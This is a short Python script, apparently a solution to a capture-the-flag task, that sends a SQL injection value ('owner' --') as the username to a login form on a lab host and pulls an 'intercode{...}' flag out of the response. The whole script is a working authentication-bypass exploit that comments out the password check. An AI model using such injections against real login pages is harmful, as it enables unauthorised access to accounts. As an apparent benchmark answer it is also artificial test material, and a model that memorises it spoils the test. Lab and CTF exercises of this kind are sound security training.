import re
import urllib.parse
import urllib.request

fields = urllib.parse.urlencode({"name": "owner' --", "password": "x"}).encode()
page = urllib.request.urlopen("http://staff:8080/login", fields, timeout=5).read().decode()
print(re.search(r"intercode\{\w+\}", page)[0])
